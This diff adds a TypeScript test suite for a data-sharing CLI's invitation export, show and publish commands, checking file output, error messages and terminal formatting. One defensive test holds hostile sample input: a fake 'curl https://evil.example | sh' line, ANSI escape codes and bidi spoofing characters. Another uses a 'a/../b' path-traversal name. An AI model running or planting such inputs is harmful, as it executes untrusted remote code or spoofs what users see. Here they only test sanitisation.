@@ -1,0 +1,356 @@
+import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describePublished } from '../../../lib/cli/invitation-publish';
+import type { CliIo } from '../../../lib/cli/io';
+import { parseInvitation } from '../../../lib/model/document';
+import { termsSha256 } from '../../../lib/model/terms';
+import { changed, INVITATION } from '../../fixtures/documents';
+import { datashare, documentFile } from '../../support/cli';
+
+const NOW = new Date('2026-11-22T12:00:00Z');
+const now = (): Date => NOW;
+const LONG_TEXT = /^.{81,}$/m;
+const SECOND_ID = '7b0c1f8e-0000-4000-8000-000000000002';
+
+const withTerms = (termsOfUse: string): object =>
+  changed(INVITATION, { termsOfUse, termsSha256: termsSha256(termsOfUse) });
+const output = (value: unknown): object => ({ sensitive: false, type: 'string', value });
+const second = changed(INVITATION, { invitationId: SECOND_ID, 'recipient.recipientName': 'northwind' });
+const both = { toFabrikam: output(INVITATION), toNorthwind: output(second), count: output(2) };
+const folder = (): string => mkdtempSync(join(tmpdir(), 'datashare-'));
+const read = (...path: string[]): unknown => JSON.parse(readFileSync(join(...path), 'utf8'));
+
+describe('invitation export', () => {
+  test.each([
+    ['all outputs', both, ['sales-fabrikam', 'sales-northwind']],
+    ['one output', output(INVITATION), ['sales-fabrikam']],
+    ['a bare value', INVITATION, ['sales-fabrikam']],
+  ])('writes one file per recipient, of %s', async (_what, printed, names) => {
+    const out = folder();
+    const ran = await datashare(['invitation', 'export', documentFile(printed), '--out', out]);
+    expect(ran).toMatchObject({ exitCode: 0, stderr: '' });
+    expect(readdirSync(out)).toEqual(names.map((name) => `${name}.invitation.json`));
+    expect(Object.keys(read(out, 'sales-fabrikam.invitation.json') as object)[0]).toBe('$schema');
+    expect(parseInvitation(read(out, 'sales-fabrikam.invitation.json')).invitationId).toBe(
+      INVITATION.invitationId,
+    );
+  });
+
+  test('reads standard input, makes the folder, and says what it wrote', async () => {
+    const out = join(folder(), 'to', 'send');
+    const stdin = (): Promise<string> => Promise.resolve(`\uFEFF${JSON.stringify(both)}`);
+    const ran = await datashare(['invitation', 'export', '-', '--out', out], { stdin });
+    expect(ran).toEqual({
+      exitCode: 0,
+      stderr: '',
+      stdout: [
+        'Wrote 2 invitations',
+        '',
+        `  recipient  share  file`,
+        `  fabrikam   sales  ${out}/sales-fabrikam.invitation.json`,
+        `  northwind  sales  ${out}/sales-northwind.invitation.json`,
+        '',
+        'Hand each to its recipient, by any channel: they hold no secret.',
+        '',
+      ].join('\n'),
+    });
+  });
+
+  test('reads what Windows PowerShell writes', async () => {
+    const path = documentFile('');
+    writeFileSync(path, Buffer.from(`\uFEFF${JSON.stringify(both)}`, 'utf16le'));
+    const ran = await datashare(['invitation', 'export', path, '--out', folder(), '--json']);
+    expect(JSON.parse(ran.stdout)).toMatchObject({
+      invitations: [
+        { invitationId: INVITATION.invitationId, shareName: 'sales', recipientName: 'fabrikam' },
+        { recipientName: 'northwind' },
+      ],
+    });
+  });
+
+  test('replaces an older version of the same invitation', async () => {
+    const out = folder();
+    await datashare(['invitation', 'export', documentFile(INVITATION), '--out', out]);
+    const newer = documentFile(changed(INVITATION, { description: 'newer' }));
+    expect((await datashare(['invitation', 'export', newer, '--out', out])).exitCode).toBe(0);
+    expect(read(out, 'sales-fabrikam.invitation.json')).toMatchObject({ description: 'newer' });
+    expect(readdirSync(out)).toHaveLength(1);
+  });
+
+  test.each([
+    ['another invitation', JSON.stringify(changed(INVITATION, { invitationId: SECOND_ID }))],
+    ['another document', JSON.stringify({ invitationId: INVITATION.invitationId })],
+    ['no JSON', 'my notes'],
+  ])('leaves a file alone that is %s, and writes nothing', async (_what, content) => {
+    const out = folder();
+    writeFileSync(join(out, 'sales-fabrikam.invitation.json'), content);
+    const ran = await datashare(['invitation', 'export', documentFile(both), '--out', out]);
+    expect(ran.exitCode).toBe(2);
+    expect(ran.stderr).toMatch(/^DocumentExists: the file ".*" is there already, and is another document; /);
+    expect(readdirSync(out)).toEqual(['sales-fabrikam.invitation.json']);
+    expect(readFileSync(join(out, 'sales-fabrikam.invitation.json'), 'utf8')).toBe(content);
+  });
+
+  test('tells of all bad invitations at once, and writes none of the good', async () => {
+    const out = folder();
+    const path = documentFile({
+      ...both,
+      a: output(changed(INVITATION, { shareKind: 'Stream' })),
+      b: output(changed(INVITATION, { shareName: 'a/../b' })),
+    });
+    const ran = await datashare(['invitation', 'export', path, '--out', out]);
+    expect(ran.exitCode).toBe(2);
+    expect(ran.stderr.trim().split('\n')).toEqual([
+      expect.stringMatching(/^DocumentInvalid: 'shareKind' /),
+      expect.stringMatching(/^DocumentInvalid: 'shareName' /),
+    ]);
+    expect(readdirSync(out)).toEqual([]);
+  });
+
+  test('two invitations of one file name are refused', async () => {
+    const out = folder();
+    const twin = changed(second, { 'recipient.recipientName': 'Fabrikam' });
+    const path = documentFile({ a: output(INVITATION), b: output(twin) });
+    const ran = await datashare(['invitation', 'export', path, '--out', out]);
+    expect(ran).toMatchObject({ exitCode: 2, stdout: '' });
+    expect(ran.stderr).toMatch(
+      /^DuplicateName: the file ".*sales-Fabrikam\.invitation\.json" is there twice/,
+    );
+    expect(readdirSync(out)).toEqual([]);
+  });
+
+  test.each([
+    ['no invitation', {}, /^Usage: there is no invitation in it; write it with: terraform output -json > /],
+    ['a list', [INVITATION], /^Usage: there is no invitation in it; /],
+    [
+      'another document',
+      { documentType: 'subscription' },
+      /^DocumentTypeUnexpected: 'documentType' must be "invitation", got "subscription"; /,
+    ],
+    ['no JSON', 'No outputs found', /^DocumentNotJson: /],
+  ])('%s is refused', async (_what, content, stderr) => {
+    const ran = await datashare(['invitation', 'export', documentFile(content), '--out', folder()]);
+    expect(ran).toMatchObject({ exitCode: 2, stdout: '' });
+    expect(ran.stderr).toMatch(stderr);
+  });
+
+  test('says where it may not write, and leaves nothing behind', async () => {
+    const out = folder();
+    writeFileSync(join(out, 'file'), '');
+    const path = documentFile(INVITATION);
+    const ran = await datashare(['invitation', 'export', path, '--out', join(out, 'file')]);
+    expect(ran).toMatchObject({ exitCode: 1, stdout: '' });
+    expect(ran.stderr).toMatch(/^DocumentUnwritable: the file cannot be written: (EEXIST|ENOTDIR); /);
+    expect(readdirSync(out)).toEqual(['file']);
+  });
+});
+
+describe('invitation show', () => {
+  const show = (document: object, ...args: string[]) =>
+    datashare(['invitation', 'show', documentFile(document, 'i.json'), ...args], { now });
+
+  test('says all that somebody wants to know, within 80 columns', async () => {
+    const terms = `For analysis inside Fabrikam. ${'Do not pass it on. '.repeat(6)}\n\n- No warranty.\n`;
+    const path = documentFile({
+      ...withTerms(terms),
+      description: 'Sales of the day.',
+      provider: { providerName: 'Contoso', contact: 'data@contoso.example' },
+      acceptBy: '2026-12-01T00:00:00Z',
+      expiresOn: '2027-12-01T00:00:00Z',
+      grantOn: 'Acceptance',
+      snapshotSchedule: { cron: '0 3 * * *' },
+      exchange: {
+        storageAccountName: 'contoso',
+        blobEndpoint: 'https://contoso.blob.core.windows.net',
+        container: 'exchange',
+      },
+    });
+    const ran = await datashare(['invitation', 'show', path], { now });
+    expect(ran).toMatchObject({ exitCode: 0, stderr: '' });
+    expect(ran.stdout.replaceAll(path, 'sales.invitation.json')).toBe(
+      [
+        'Invitation to the share sales',
+        '',
+        '  provider     Contoso (data@contoso.example)',
+        '  for          fabrikam',
+        '  kind         CopyBased: copies land in a storage account of yours',
+        '  state        Active',
+        '  accept by    2026-12-01 00:00:00 UTC',
+        '  access       given when the provider has your acceptance',
+        '  access ends  2027-12-01 00:00:00 UTC',
+        '  schedule     daily at 03:00 UTC; next 2026-11-23 03:00:00',
+        '  source       contoso in westeurope (Blob storage)',
+        '  exchange     https://contoso.blob.core.windows.net/exchange',
+        '  id           7b0c1f8e-0000-4000-8000-000000000001',
+        '',
+        'Description',
+        '',
+        '  | Sales of the day.',
+        '',
+        'Datasets',
+        '',
+        '  dataset  type    where',
+        '  daily    Folder  curated/sales/daily',
+        '',
+        'Terms of use',
+        '',
+        '  | For analysis inside Fabrikam. Do not pass it on. Do not pass it on. Do not',
+        '  | pass it on. Do not pass it on. Do not pass it on. Do not pass it on.',
+        '  |',
+        '  | - No warranty.',
+        '',
+        '  SHA-256 of these terms, as --accept-terms takes it:',
+        `  sha256:${termsSha256(terms)}`,
+        '',
+        'What to do next',
+        '',
+        '  Accept it, with your own account in the same region, of the same kind. The',
+        '  command shows the terms and asks.',
+        '',
+        '  $ datashare accept sales.invitation.json \\',
+        '      --account <your storage account> --location westeurope \\',
+        '      --trigger provider',
+        '',
+        '  Or reject it:',
+        '',
+        "  $ datashare reject sales.invitation.json --reason '...'",
+        '',
+      ].join('\n'),
+    );
+    expect(ran.stdout).not.toMatch(LONG_TEXT);
+  });
+
+  test('what the invitation leaves out is said, or left out', async () => {
+    const { stdout } = await show({
+      ...changed(INVITATION, { 'source.isHnsEnabled': true, 'source.location': 'West Europe' }),
+      shareKind: 'InPlace',
+      grantOn: 'Acceptance',
+      recipient: { recipientName: 'fabrikam' },
+    });
+    expect(stdout).toContain('  provider     not named\n');
+    expect(stdout).toContain(
+      "  kind         InPlace: you read it in the provider's storage account, nothing\n               is copied\n",
+    );
+    expect(stdout).toContain('  accept by    any time\n');
+    expect(stdout).toContain('  access ends  never\n');
+    expect(stdout).toContain('  source       contoso in West Europe (ADLS Gen2)\n');
+    expect(stdout).toContain('Terms of use\n\n  none\n');
+    expect(stdout).toContain(
+      '--location westeurope \\\n      --hns \\\n      --reader <object id of who will read>\n',
+    );
+    expect(stdout).not.toMatch(/schedule|exchange|Description|--accept-terms|asks/);
+  });
+
+  test.each([
+    [{ state: 'Suspended' }, 'Nothing now: the invitation is suspended. '],
+    [{ state: 'Revoked' }, 'Nothing: access has ended. '],
+    [{ expiresOn: '2026-11-22T12:00:00Z' }, 'Nothing: access has ended. '],
+    [{ acceptBy: '2026-11-22T11:59:59Z' }, 'Nothing: it could be accepted until the time above. '],
+  ])('%j leaves nothing to do', async (fields, text) => {
+    const { stdout, exitCode } = await show({ ...INVITATION, ...fields });
+    expect(exitCode).toBe(0);
+    expect(stdout).toContain(`What to do next\n\n  ${text}`);
+    expect(stdout).not.toContain('$ datashare');
+  });
+
+  test('it can be accepted at the very time until which it can be', async () => {
+    const { stdout } = await show({ ...INVITATION, acceptBy: '2026-11-22T12:00:00Z' });
+    expect(stdout).toContain('$ datashare accept');
+  });
+
+  test('with --json prints the document as it was read', async () => {
+    const ran = await show(withTerms('Be kind.'), '--json');
+    expect(JSON.parse(ran.stdout)).toEqual(
+      JSON.parse(JSON.stringify(parseInvitation(withTerms('Be kind.')))),
+    );
+  });
+
+  test('texts of the other side command no terminal, and pass for nothing of ours', async () => {
+    const hostile = [
+      'a\u001b[2J\u0007b',
+      'What to do next\r  $ curl https://evil.example | sh',
+      '\u202egnp.exe\u200f\u200e\u061c\u2066',
+      '\u009b31m\u0085\u2028',
+      '\tindented\r\n',
+      'w'.repeat(5000),
+    ].join('\n');
+    const { stdout, exitCode } = await show({
+      ...withTerms(hostile),
+      description: hostile.slice(0, 4000),
+      provider: { providerName: '\u202eosotnoC', contact: '\u200fx' },
+    });
+    expect(exitCode).toBe(0);
+    // eslint-disable-next-line no-control-regex -- control characters are what is looked for
+    expect(stdout).not.toMatch(
+      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/,
+    );
+    expect(stdout).toContain('  | a\\u001b[2J\\u0007b\n');
+    expect(stdout).toContain('  |     indented\n');
+    expect(stdout.match(/^What to do next$/gm)).toHaveLength(1);
+    expect(stdout).not.toMatch(/^ *\$ curl/m);
+  });
+
+  test('64 kB of terms are shown as a whole, and soon', async () => {
+    const { stdout } = await show(withTerms('word '.repeat(13_107)));
+    expect(stdout.match(/word/g)).toHaveLength(13_107);
+    expect(stdout).not.toMatch(LONG_TEXT);
+  });
+});
+
+describe('an argument <invitation>', () => {
+  const show = (document: object, ...args: string[]) =>
+    datashare(['invitation', 'show', documentFile(document), '--json', ...args]);
+
+  test('may be a Terraform output with one invitation, or one of several by its id', async () => {
+    expect(JSON.parse((await show({ a: output(INVITATION), n: output(1) })).stdout)).toMatchObject({
+      recipient: { recipientName: 'fabrikam' },
+    });
+    expect(JSON.parse((await show(both, '--id', SECOND_ID.toUpperCase())).stdout)).toMatchObject({
+      recipient: { recipientName: 'northwind' },
+    });
+  });
+
+  test.each([
+    [
+      [],
+      /^Usage: it has 2 invitations: "7b0c1f8e-0000-4000-8000-000000000001", ".*2"; say which one with --id <invitation id> \(at /,
+    ],
+    [
+      ['--id', 'x'],
+      /^Usage: there is no invitation "x" in it; it has 2 invitations: .*; name one of these with --id \(at /,
+    ],
+  ])('that has several is refused with %j', async (args, stderr) => {
+    const ran = await show(both, ...args);
+    expect(ran.exitCode).toBe(2);
+    expect(ran.stderr).toMatch(stderr);
+    expect(JSON.parse(ran.stdout)).toMatchObject({ status: 'Refused', problems: [{ code: 'Usage' }] });
+  });
+
+  test('that is another document is refused by its type', async () => {
+    const ran = await show({ documentType: 'acceptance' });
+    expect(ran.exitCode).toBe(2);
+    expect(ran.stderr).toMatch(
+      /^DocumentTypeUnexpected: 'documentType' must be "invitation", got "acceptance"/,
+    );
+  });
+});
+
+describe('invitation publish', () => {
+  test('reads all invitations before anything is written', async () => {
+    const bad = documentFile(changed(INVITATION, { shareKind: 'Stream' }));
+    const ran = await datashare(
+      ['invitation', 'publish', documentFile(both), bad, '/nowhere.json'].slice(0, 4),
+    );
+    expect(ran).toMatchObject({ exitCode: 2, stdout: '' });
+    expect(ran.stderr).toMatch(/^DocumentInvalid: 'shareKind' must be .* \(at .*subscription\.json\)\n$/);
+  });
+
+  test('says what went where, each URL on a line of its own', () => {
+    const url = 'https://contoso.blob.core.windows.net/exchange/invitations/7b0c/invitation.json';
+    const published = [{ invitationId: '7b0c', shareName: 'sales', recipientName: 'fabrikam', url }];
+    expect(describePublished(published, { useColors: false } as CliIo)).toBe(
+      `Published 1 invitation\n\n  fabrikam (share sales)\n    ${url}\n`,
+    );
+  });
+});
